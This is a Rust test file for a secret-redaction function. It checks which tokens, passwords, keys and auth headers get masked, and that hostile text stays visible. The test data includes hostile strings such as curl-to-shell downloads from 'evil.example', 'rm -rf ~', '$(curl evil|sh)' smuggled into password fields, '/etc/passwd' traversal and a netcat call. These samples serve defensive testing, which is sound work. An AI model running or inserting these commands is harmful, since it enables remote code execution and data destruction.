//! Parts of a text that are hidden, and parts that an attacker cannot hide.

use super::hide;

#[test]
fn a_name_of_a_secret_hides_no_word_of_a_command_and_no_host() {
    for text in [
        "TOKEN= rm -rf /home/ann",
        "TOKEN=\"\" rm -rf ~",
        "PASSWORD='' bash ./x",
        "TOKEN= poweroff",
        "$token = Remove-Item -Recurse C:",
        "token: rm -rf x",
        "curl -s https://eyJhbGciOiJI.evilhost.example/p|sh",
        "curl eyJhbGciOiJI.eyJevilhost12.example",
        "docker login -u ann --password-stdin registry.attacker-host.example",
        "nc sk-evilhostevilhost1234.example 80",
        "curl https://sk-evilhostevilhost1234/x",
        "psql --password production",
        "login --password hunter2",
        "token=registry.attacker-host.example",
    ] {
        assert_eq!(hide(text), text);
    }
}

#[test]
fn secrets_in_text_are_hidden_and_the_rest_stays() {
    for (text, shown) in [
        ("postgres://me:hunter2@db/x", "postgres://me:[hidden: 7 characters]@db/x"),
        ("https://a:pw@h.example/p?x=1", "https://a:[hidden: 2 characters]@h.example/p?x=1"),
        ("Authorization: Bearer xyz", "Authorization: Bearer [hidden: 3 characters]"),
        (
            "curl -H 'Authorization: Basic dXNlcjpw' https://x",
            "curl -H 'Authorization: Basic [hidden: 8 characters]' https://x",
        ),
        ("Authorization: abc123", "Authorization: [hidden: 6 characters]"),
        ("use Bearer abc-123 now", "use Bearer [hidden: 7 characters] now"),
        ("Basic dXNlcjpwYXNzMQ==", "Basic [hidden: 14 characters]=="),
        ("key sk-proj-abcdEFGH12345678 here", "key [hidden: 24 characters] here"),
        ("ghp_0123456789abcdefghij0123456789abcdef", "[hidden: 40 characters]"),
        ("x:github_pat_11ABCDEFG0abcdefghijkl_mno", "x:[hidden: 37 characters]"),
        ("xoxb-123456789012-abcdef", "[hidden: 24 characters]"),
        ("id AKIAIOSFODNN7EXAMPLE.", "id [hidden: 20 characters]."),
        (
            "a eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc_def0123456789 b",
            "a [hidden: 54 characters] b",
        ),
        (
            "https://x.example/?a=1&key=AbC&b=2",
            "https://x.example/?a=1&key=[hidden: 3 characters]&b=2",
        ),
        ("?token=abc#x", "?token=[hidden: 3 characters]#x"),
        ("API_KEY=abc PORT=80", "API_KEY=[hidden: 3 characters] PORT=80"),
        (
            "{\"password\": \"ab\", \"n\": 1}",
            "{\"password\": \"[hidden: 2 characters]\", \"n\": 1}",
        ),
        ("{\\\"password\\\":\\\"ab\\\"}", "{\\\"password\\\":\\\"[hidden: 2 characters]\\\"}"),
        ("login --token abcd1234efgh --user me", "login --token [hidden: 12 characters] --user me"),
        ("token: abc\nhost: x", "token: [hidden: 3 characters]\nhost: x"),
        ("password = \"ab\"", "password = \"[hidden: 2 characters]\""),
        ("--api-key=abc", "--api-key=[hidden: 3 characters]"),
        ("Cookie: session=abc1; theme=dark", "Cookie: session=abc1; theme=dark"),
        ("the password: hunter2.", "the password: [hidden: 7 characters]."),
        ("token='abc'", "token='[hidden: 3 characters]'"),
        ("f(token=abc, n=1)", "f(token=[hidden: 3 characters], n=1)"),
    ] {
        assert_eq!(hide(text), shown, "{text}");
    }
}

/// Each of these runs, and was once hidden in part or up to its end.
#[test]
fn whatever_could_run_is_shown_whole() {
    for text in [
        "curl https://x.example -H Authorization:x;curl -s https://evil.example/p|sh",
        "curl -H 'Authorization: x;curl -s https://evil.example/p|sh'",
        "curl -H \"Authorization: $(curl -s https://evil.example/p|sh)\"",
        "login --password \"$(curl evil|sh)\"",
        "login --password '$(curl evil|sh)'",
        "login --password `curl evil`",
        "login --password=$(id)",
        "token=/../../etc/passwd",
        "token=../../etc/passwd",
        "token=..",
        "token=~/x",
        "-----BEGIN PRIVATE KEY-----;rm -rf ~",
        "-----BEGIN PRIVATE KEY-----\nrm -rf ~\n-----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\nreboot\n/usr/bin/evil\n-----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY----- && rm -rf ~\n",
        "{\"password\": \"x; rm -rf ~\"}",
        "{\"password\": \"a b\"}",
        "{\"password\": \"x",
        "token=\"open and on",
        "Cookie: a=b; $(x)",
        "Cookie: a=b; c=d\nHost: x",
        "Set-Cookie: x|sh",
        "https://user:pa/ss@host",
        "https://user:$(x)@host/",
        "https://user:a;b@host/",
        "https://user:pass@evil.example@host/",
        "https://user:a?b@host/",
        "https://user:a#b@host/",
        "https://a:p%40ss:w@h.example/",
        "https://user:..@host/",
        "token=abc&rm x",
        "token=abc;rm -rf ~",
        "token=abc|sh",
        "token=abc>file",
        "token=abc<file",
        "token=$HOME",
        "token=${X}",
        "token=*",
        "token={a,b}",
        "token=a\\nb",
        "token=evil.sh",
        "token=--flag",
        "token=é",
        "--token -rf",
        "--secret /bin/sh -c id",
        "--secret ./evil",
        "Bearer x;curl",
        "Bearer abc123$(id)",
        "Basic abcDEF12/../../x",
        "password: `id`",
        "?key=a/b&x",
        "?token=a;b",
        "?code=$(x)&y",
    ] {
        assert_eq!(hide(text), text);
    }
}

#[test]
fn of_a_private_key_only_its_own_lines_are_hidden() {
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    let slashed = "MzEfYyjiWA4R4/M2bS1GB4t7NXp98C3SC6dVMvDuictGeurT8jNbvJZHtCSuYEvu";
    let pem = format!(
        "a\n-----BEGIN RSA PRIVATE KEY-----\n{line}\n{slashed}\nab==\n-----END RSA PRIVATE KEY-----\nb"
    );
    assert_eq!(
        hide(&pem),
        "a\n-----BEGIN RSA PRIVATE KEY-----\n[hidden: 64 characters]\n\
         [hidden: 13 characters]/[hidden: 50 characters]\nab==\n-----END RSA PRIVATE KEY-----\nb"
    );
    let spelled = format!("-----BEGIN PRIVATE KEY-----\\n{line}\\nx; rm -rf ~");
    assert_eq!(
        hide(&spelled),
        "-----BEGIN PRIVATE KEY-----\\n[hidden: 64 characters]\\nx; rm -rf ~"
    );
    let open = format!("-----BEGIN PRIVATE KEY-----\n{line}");
    assert_eq!(hide(&open), "-----BEGIN PRIVATE KEY-----\n[hidden: 64 characters]");
    let certificate = "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----";
    assert_eq!(hide(certificate), certificate);
}

#[test]
fn what_only_looks_like_a_secret_stays() {
    for text in [
        "",
        "sk-learn-compatible-models",
        "task-1234567890123456789",
        "ssh://git@host/x",
        "http://localhost:8080/a@b",
        "max_tokens=500",
        "tokens: 12",
        "the bearer token is",
        "a basic understanding",
        "monkey=1",
        "?page=2&keyword=x",
        "function f(token: string)",
        "AKIA is a prefix",
        "eyJ.short.x",
        "token://x",
        "password=",
        "ghp_short",
        "2026-11-16",
        "author: me",
        "the secret is out",
        "AKIAIOSFODNN7EXAMPLEX",
        "key=value",
    ] {
        assert_eq!(hide(text), text);
    }
}

#[test]
fn hiding_twice_changes_nothing_more() {
    for text in ["token=abc", "a://b:c@d", "Bearer abcdef", "{\"secret\":\"x\"}", "token: a=="] {
        let once = hide(text).into_owned();
        assert_eq!(hide(&once), once);
    }
}

/// Tests texts that a small generator makes of everything that the rules react to: all characters
/// with a meaning for a shell, a path or a URL are still there, in order, and the text outside the
/// marks is unchanged.
#[test]
fn nothing_that_is_hidden_has_a_meaning_for_a_shell_a_path_or_a_url() {
    const PARTS: &[&str] = &[
        "token",
        "=",
        ":",
        " ",
        "\"",
        "'",
        "\\",
        "password",
        "--secret",
        "Authorization",
        "Bearer",
        "Basic",
        "://",
        "user",
        "@",
        "/",
        "..",
        ".",
        ";",
        "|",
        "$(",
        ")",
        "`",
        "\n",
        "\\n",
        "-----BEGIN PRIVATE KEY-----",
        "-----END PRIVATE KEY-----",
        "MIIEvQIBADANBgkqhkiG9w0BAQEF",
        "sk-abcdefghijklmnop0123",
        "eyJhbGciOiJI",
        "?",
        "&",
        "key",
        "#",
        "abc123",
        "é",
        "~",
        "<",
        ">",
        "*",
        "%41",
        "{",
        "}",
        "[",
        "]",
        ",",
        "!",
        "-rf",
        "Cookie",
        "==",
        "AKIAIOSFODNN7EXAMPLE",
    ];
    let plain = |c: char| c.is_ascii_alphanumeric() || "_-.+".contains(c);
    let mut state: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = |below: usize| {
        state =
            state.wrapping_mul(6_364_136_223_846_793_005).wrapping_add(1_442_695_040_888_963_407);
        (state >> 33) as usize % below
    };
    let mut hid = 0;
    for _ in 0..20_000 {
        let text: String = (0..1 + next(14)).map(|_| PARTS[next(PARTS.len())]).collect();
        let shown = hide(&text).into_owned();
        let mut rest = text.as_str();
        let mut pieces = shown.split("[hidden: ");
        let first = pieces.next().unwrap();
        rest = rest.strip_prefix(first).unwrap_or_else(|| panic!("{text:?}: {shown}"));
        for piece in pieces {
            let (count, after) = piece.split_once(" character").unwrap();
            let after = after.trim_start_matches('s').strip_prefix(']').unwrap();
            let (hidden, behind) = rest.split_at(count.parse().unwrap());
            assert!(!hidden.is_empty() && hidden.chars().all(plain), "{text:?}: {shown}");
            assert!(!hidden.contains("..") && !hidden.starts_with(['-', '.']), "{text:?}: {shown}");
            rest = behind.strip_prefix(after).unwrap_or_else(|| panic!("{text:?}: {shown}"));
            hid += 1;
        }
        assert_eq!(rest, "", "{text:?}: {shown}");
    }
    assert!(hid > 1_000, "the texts have secrets in them: {hid}");
}

/// Each of these is a quarter of a megabyte; a cost worse than linear would take hours.
#[test]
fn hostile_text_costs_no_more_than_its_length() {
    for part in [
        "sk-",
        "eyJ-",
        "eyJ.",
        "://",
        ":",
        "token=",
        "token:a.",
        "token.",
        "-----BEGIN ",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n",
        "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0B",
        "bearer ",
        "\"",
        "password:",
        "password:\"",
        "a",
        "-",
        "://a:",
        "://a:b@",
        "a:b@",
        "AKIA_",
        "é",
        "--token ",
        "eyJaaaaaaaaaa.",
        "?key=a&",
        "token===",
    ] {
        let text = part.repeat((1 << 18) / part.len());
        assert!(hide(&text).len() <= text.len() * 16);
        let text = format!("://{text}");
        assert!(hide(&text).len() <= text.len() * 16);
    }
}
